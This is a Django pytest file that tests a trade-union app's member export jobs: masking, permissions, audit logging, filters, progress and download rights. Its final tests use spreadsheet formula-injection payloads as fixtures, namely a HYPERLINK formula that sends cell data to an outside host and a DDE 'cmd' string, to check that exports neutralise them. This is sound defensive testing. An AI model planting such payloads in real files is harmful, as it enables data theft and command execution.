"""Member export as a background job: masked unless revealed with a reason (audited twice), the list's filters and
scope carried into the job, progress per chunk, the file only for its owner, no query per row."""
import csv
import hashlib
import io
import zipfile

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from python_calamine import CalamineWorkbook

from gonghui.accounts.models import Post, Role
from gonghui.accounts.tests.factories import PostFactory
from gonghui.audit.models import AuditEvent
from gonghui.core.exceptions import ApplicationError, PermissionDenied
from gonghui.jobs import services as job_services
from gonghui.jobs.models import Job
from gonghui.members import exports, imports, services
from gonghui.members.models import Membership
from gonghui.orgs.models import Org
from gonghui.members.tests.factories import join
from gonghui.members.tests.test_imports import csv_bytes, good_row

pytestmark = pytest.mark.django_db


@pytest.fixture
def manager(org):
    return PostFactory(org=org("440106"), role=Role.objects.get(code="admin")).user


@pytest.fixture
def members(manager):
    imports.member_import(actor=manager, data=csv_bytes([good_row(name="导出甲", phone="13712345678"), good_row(name="导出乙")]))
    return Membership.objects.order_by("pk")


@pytest.fixture
def export(django_capture_on_commit_callbacks):
    """export(actor, **request) → the finished job, run as the worker runs it."""
    def run(actor, **request) -> Job:
        with django_capture_on_commit_callbacks(execute=True):
            job = exports.member_export_request(actor=actor, **{"fmt": "xlsx", **request})
        return Job.objects.get(pk=job.pk)
    return run


def sheet(job: Job) -> list[list]:
    return CalamineWorkbook.from_filelike(io.BytesIO(job.result_file.read())).get_sheet_by_index(0).to_python()


def csv_text(job: Job) -> str:
    content = job.result_file.read()
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    return content.decode("utf-8-sig")


def test_masked_by_default_in_xlsx_and_in_csv_with_a_bom(manager, members, export):
    person = members.first().person
    job = export(manager)
    rows = sheet(job)
    assert job.status == "succeeded" and job.summary == "共导出 2 名会员（姓名、身份证号、手机号已脱敏）。" and job.result_name == "会员名册.xlsx"
    assert rows[0][:4] == ["会员编号", "姓名", "身份证号", "手机号"] and len(rows) == 3
    assert ["导*甲", person.id_number[:4] + "*" * 10 + person.id_number[-4:], "137****5678", person.get_gender_display()] in [r[1:5] for r in rows]
    assert person.id_number not in str(rows) and "13712345678" not in str(rows)
    text = csv_text(export(manager, fmt="csv"))
    assert "137****5678" in text and "导*甲" in text and person.id_number not in text
    # a masked export is audited too (who took which list out, rows and file hash), never as a full one
    assert set(AuditEvent.objects.filter(action__startswith="members.membership.export").values_list("action", flat=True)) == {
        "members.membership.exported"}


def test_a_full_export_needs_the_permission_and_a_reason_and_is_audited_when_asked_and_when_written(manager, members, export, org):
    analyst = PostFactory(org=org("440106"), role=Role.objects.get(code="analyst")).user
    with pytest.raises(PermissionDenied):
        exports.member_export_request(actor=analyst, fmt="xlsx", full=True, reason="核对名册")
    with pytest.raises(ApplicationError, match="理由"):
        exports.member_export_request(actor=manager, fmt="csv", full=True, reason=" 核对 ")
    assert not Job.objects.exists()
    job = export(manager, fmt="csv", full=True, reason="  年度核对名册 ")
    content = job.result_file.read()
    assert "13712345678" in content.decode("utf-8-sig") and job.result_name == "会员名册（含完整信息）.csv"
    asked, written = AuditEvent.objects.filter(object_type="jobs.job", object_id=str(job.pk)).order_by("pk")
    assert (asked.action, asked.data["reason"], asked.data["format"]) == ("members.membership.export_requested", "年度核对名册", "csv")
    assert (written.action, written.data["rows"], written.data["reason"]) == ("members.membership.exported_full", 2, "年度核对名册")
    assert written.data["file_sha256"] == hashlib.sha256(content).hexdigest()


def test_a_full_export_covers_only_the_unions_where_the_cadre_may_reveal(members, export, org):
    tianhe = members.first()
    mixed = PostFactory(org=org("440106006"), role=Role.objects.get(code="admin")).user
    PostFactory(user=mixed, org=org("440104"), role=Role.objects.get(code="analyst"))  # view-only in 越秀
    yuexiu = services.application_approve(actor=None, application_id=join(town_code="440104001").pk)
    masked, full = csv_text(export(mixed, fmt="csv")), csv_text(export(mixed, fmt="csv", full=True, reason="核对名册信息"))
    assert yuexiu.member_number in masked and yuexiu.member_number not in full
    assert tianhe.person.id_number in full and yuexiu.person.id_number not in full


def test_a_post_given_up_before_the_job_runs_refuses_the_full_export(manager, members, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=False) as queued:
        job = exports.member_export_request(actor=manager, fmt="xlsx", full=True, reason="年度核对名册")
    Post.objects.filter(user=manager).update(role=Role.objects.get(code="analyst"))
    for callback in queued:
        callback()
    job.refresh_from_db()
    assert (job.status, job.summary, job.result_file.name) == ("failed", "导出完整个人信息需要“查看完整个人信息”权限", "")
    assert not AuditEvent.objects.filter(action="members.membership.exported_full").exists()


def test_the_list_filters_go_into_the_export(manager, members, export, org):
    first, second = members
    Membership.objects.filter(pk=second.pk).update(status="frozen")
    by_status = sheet(export(manager, status="frozen"))
    assert [row[0] for row in by_status[1:]] == [second.member_number]
    by_number = sheet(export(manager, q=first.member_number))
    assert [row[0] for row in by_number[1:]] == [first.member_number]
    job = export(manager, q=f" {second.person.id_number} ")
    assert [row[0] for row in sheet(job)[1:]] == [second.member_number]
    assert second.person.id_number not in str(job.options)  # kept only as its blind index
    assert len(sheet(export(manager, q="440106199913320000"))) == 1  # 18 characters, not an ID number: nobody
    other_town = services.application_approve(actor=None, application_id=join(town_code="440106001").pk)
    assert [row[0] for row in sheet(export(manager, within=org("440106001")))[1:]] == [other_town.member_number]


def test_an_org_out_of_scope_by_the_time_the_job_runs_fails_with_a_message(manager, members, export, org):
    outside = org("440104")
    job = Job.objects.create(owner=manager, kind=exports.JOB_KIND,
                             options={"format": "xlsx", "full": False, "reason": "", "filters": {"status": "", "within": outside.pk, "q": ""}})
    job_services.job_run(job_id=job.pk)
    job.refresh_from_db()
    assert job.status == "failed" and "对象不存在或无权访问" in job.summary


def test_a_bad_format_is_refused_before_anything_is_queued(manager):
    with pytest.raises(ApplicationError, match="导出格式"):
        exports.member_export_request(actor=manager, fmt="pdf")
    assert not Job.objects.exists()


def test_progress_is_reported_after_every_chunk(manager, members, monkeypatch, tmp_path):
    for number in range(3):
        imports.member_import(actor=manager, data=csv_bytes([good_row(name=f"进度{number}")]))
    monkeypatch.setattr(exports, "CHUNK_SIZE", 2)
    job = Job.objects.create(owner=manager, kind=exports.JOB_KIND,
                             options={"format": "csv", "full": False, "reason": "", "filters": {"status": "", "within": None, "q": ""}})
    seen = []
    rows = exports.member_export_write(job=job, target=tmp_path / "名册.csv", progress=lambda *p: seen.append(p))
    assert rows == 5 and seen == [(0, 5), (2, 5), (4, 5), (5, 5)]


def test_no_query_per_row(manager, tmp_path):
    def queries(count: int) -> int:
        imports.member_import(actor=manager, data=csv_bytes([good_row(name=f"查询{count}{n}") for n in range(count)]))
        job = Job.objects.create(owner=manager, kind=exports.JOB_KIND, options={
            "format": "xlsx", "full": True, "reason": "年度核对名册", "filters": {"status": "", "within": None, "q": ""}})
        job = Job.objects.select_related("owner").get(pk=job.pk)  # the owner's posts not yet looked up, as in the worker
        with CaptureQueriesContext(connection) as context:
            exports.member_export_write(job=job, target=tmp_path / f"{count}.xlsx")
        return len(context.captured_queries)

    few, many = queries(2), queries(20)
    assert few == many and few <= 10  # the posts, a count, one cursor, the audit event (and savepoints)


def test_the_temporary_file_is_gone_after_the_job_whether_it_worked_or_not(manager, members, export, monkeypatch, tmp_path):
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    assert export(manager).status == "succeeded" and list(tmp_path.iterdir()) == []
    monkeypatch.setattr(exports, "write_csv_to", lambda target, columns, rows: 1 / 0)
    assert export(manager, fmt="csv").status == "failed" and list(tmp_path.iterdir()) == []


class TestPage:
    def test_the_export_buttons_queue_a_job_and_open_its_progress_page(self, client, manager, members, django_capture_on_commit_callbacks):
        client.force_login(manager)
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(reverse("members:list") + "?status=active", {"export": "csv"})
        job = Job.objects.get()
        assert response["Location"] == reverse("jobs:detail", args=[job.pk]) and job.options["filters"]["status"] == "active"
        assert "137****5678" in client.get(reverse("jobs:result", args=[job.pk])).getvalue().decode("utf-8-sig")
        page = client.get(reverse("jobs:detail", args=[job.pk])).content.decode()
        assert "会员导出" in page and "共导出 2 名会员" in page and "下载结果文件（会员名册.csv）" in page

    def test_a_get_never_exports(self, client, manager, members):
        client.force_login(manager)
        response = client.get(reverse("members:list"), {"export": "csv", "full": "1", "reason": "年度核对"})
        assert response.status_code == 200 and "会员名册" in response.content.decode() and not Job.objects.exists()

    def test_a_full_export_with_a_reason(self, client, manager, members, django_capture_on_commit_callbacks):
        client.force_login(manager)
        with django_capture_on_commit_callbacks(execute=True):
            client.post(reverse("members:list"), {"export": "xlsx", "full": "1", "reason": "年度核对"})
        assert "13712345678" in str(sheet(Job.objects.get()))

    def test_a_short_reason_is_refused_on_the_page_keeping_what_was_typed(self, client, manager, members):
        client.force_login(manager)
        response = client.post(reverse("members:list"), {"export": "xlsx", "full": "1", "reason": "核对"})
        page = response.content.decode()
        assert response.status_code == 400 and "须填写理由（至少4个字）" in page and 'value="核对"' in page
        assert not Job.objects.exists() and not AuditEvent.objects.filter(action__startswith="members.membership.export").exists()

    def test_without_pii_reveal_the_full_export_is_forbidden(self, client, members, org):
        analyst = PostFactory(org=org("440106"), role=Role.objects.get(code="analyst")).user
        client.force_login(analyst)
        assert client.post(reverse("members:list"), {"export": "xlsx", "full": "1", "reason": "年度核对"}).status_code == 403
        assert not Job.objects.exists()

    def test_only_the_owner_downloads_the_file(self, client, manager, members, export, superuser, cadre):
        job = export(manager, full=True, reason="年度核对名册")
        for user in (cadre("440106"), superuser):
            client.force_login(user)
            assert client.get(reverse("jobs:result", args=[job.pk])).status_code == 404
        assert "仅发起人可以下载" in client.get(reverse("jobs:detail", args=[job.pk])).content.decode()  # the administrator sees the job

    def test_a_within_org_outside_the_scope_is_not_found(self, client, manager, org):
        client.force_login(manager)
        response = client.post(reverse("members:list") + f"?within={org('440104').pk}", {"export": "xlsx"})
        assert response.status_code == 404 and not Job.objects.exists()


HOSTILE_NAME = '=HYPERLINK("http://x.cn"&A1)'


@pytest.fixture
def hostile_member(manager, org):
    """A member whose name and union's name are formulas that would send the sheet away if an office suite ran them."""
    buffer = io.StringIO()
    csv.writer(buffer).writerows([imports_header(), good_row(name=HOSTILE_NAME, phone="13712345678")])
    result = imports.member_import(actor=manager, data=buffer.getvalue().encode())
    assert result.created == 1, result.errors
    Org.objects.filter(code="440106006").update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    return Membership.objects.get()


def imports_header() -> list[str]:
    return [column.header for column in imports.COLUMNS]


@pytest.mark.parametrize("full", [False, True], ids=["masked", "full"])
def test_no_csv_cell_starts_a_formula_and_every_code_reopens_as_the_same_text(manager, hostile_member, export, full):
    rows = list(csv.reader(io.StringIO(csv_text(export(manager, fmt="csv", full=full, reason="核对名册信息" if full else "")))))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("+", "-", "@", "\t", "\r")) and (not cell.startswith("=") or cell.startswith('="'))
    header, row = rows
    values = dict(zip(header, row, strict=True))
    assert values["姓名"].startswith("'=") and values["所在工会"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    person = hostile_member.person
    assert values["会员编号"] == f'="{hostile_member.member_number}"' and values["所在工会编码"] == '="440106006"'
    assert values["身份证号"] == (f'="{person.id_number}"' if full else f'="{person.id_number[:4]}{"*" * 10}{person.id_number[-4:]}"')
    assert values["手机号"] == ('="13712345678"' if full else '="137****5678"')
    if full:
        assert values["姓名"] == "'" + HOSTILE_NAME


def test_xlsx_cells_stay_strings_whatever_they_start_with(manager, hostile_member, export):
    content = export(manager, fmt="xlsx", full=True, reason="核对名册信息").result_file.read()
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml  # written as text, never as a formula
    row = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()[1]
    assert [row[1], row[5]] == [HOSTILE_NAME, "@SUM(1+1)*cmd|' /C calc'!A0"]
